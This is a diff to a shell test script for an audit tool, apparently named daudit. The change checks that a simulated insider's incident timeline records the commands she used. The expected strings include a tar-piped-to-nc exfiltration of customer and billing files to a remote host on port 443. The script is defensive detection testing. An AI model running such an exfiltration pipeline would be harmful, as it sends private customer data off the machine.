@@ -183,7 +183,7 @@ files_run() {
 }
 
 files_review() {
-	local r first rules others egress
+	local r first rules others egress inc shown=""
 	say "daudit users --since ${DAYS[0]} --until 2026-12-04   (part 2's two weeks, per user)"
 	daudit users --since "${DAYS[0]}" --until 2026-12-04
 
@@ -194,6 +194,13 @@ files_review() {
 	daudit report --evidence 3 "${REVIEW[@]}"
 	say "daudit incident list ${REVIEW[*]}   (the same findings as incidents)"
 	daudit incident list "${REVIEW[@]}"
+	inc=$(daudit incident list --format json "${REVIEW[@]}" |
+		jq -r '[.[] | select(.person | startswith("mallory"))][0].incident // empty')
+	if [ -n "$inc" ]; then
+		say "daudit incident show $inc   (mallory's evening: what she read, with which command, what left)"
+		shown=$(daudit incident show "$inc")
+		echo "$shown"
+	fi
 
 	say "part 2: the demo's checks"
 	r=$(daudit report --format json "${REVIEW[@]}")
@@ -210,6 +217,12 @@ files_review() {
 		pass "her findings include read_then_egress (the data she read left the machine)"
 	else
 		fail "no read_then_egress finding for mallory; the sensor wrote $egress egress records that day"
+	fi
+	if [[ $shown == *"tar cf - -C $CRM_FILES customers billing (/bin/busybox"* &&
+		$shown == *"nc $REMOTE 443 (/bin/busybox"* ]]; then
+		pass "her incident's timeline shows the commands she typed: tar cf - ... | nc $REMOTE 443"
+	else
+		fail "mallory's incident (${inc:-none}) does not show the tar and nc command lines"
 	fi
 	if [ -z "$others" ]; then
 		pass "alice and bob, working as usual, raise no finding"
